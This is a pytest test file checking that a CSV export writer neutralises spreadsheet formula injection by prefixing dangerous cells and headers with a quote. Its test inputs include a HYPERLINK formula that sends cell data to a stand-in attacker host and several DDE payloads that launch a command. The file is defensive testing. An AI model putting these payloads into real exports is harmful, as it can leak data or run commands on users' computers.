"""CSV export never hands a spreadsheet a formula to run (OWASP, CSV injection): a text
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a leading ``'``; amounts, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from gateway.export.writers import ChunkSink, CsvWriter


def written(columns: list[str], rows: list[list[str | None]]) -> list[list[str]]:
    """What a CSV reader reads back from the writer's bytes."""
    sink = ChunkSink()
    writer = CsvWriter(sink, columns)
    writer.write_page(rows)
    writer.close()
    return list(csv.reader(io.StringIO(sink.take().decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell: str) -> None:
    _header, row = written(["name"], [[cell]])
    assert row == ["'" + cell]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    cells = ["-1250.50", "+3", "1e5", "Bjørnstad Ærø AS", "", "A-1108", "x=1"]
    _header, row = written(["c"] * len(cells), [cells])
    assert row == cells


def test_a_column_name_that_starts_like_a_formula_is_neutralised_too() -> None:
    header, _row = written(["=cmd()", "ok"], [["1", "2"]])
    assert header == ["'=cmd()", "ok"]
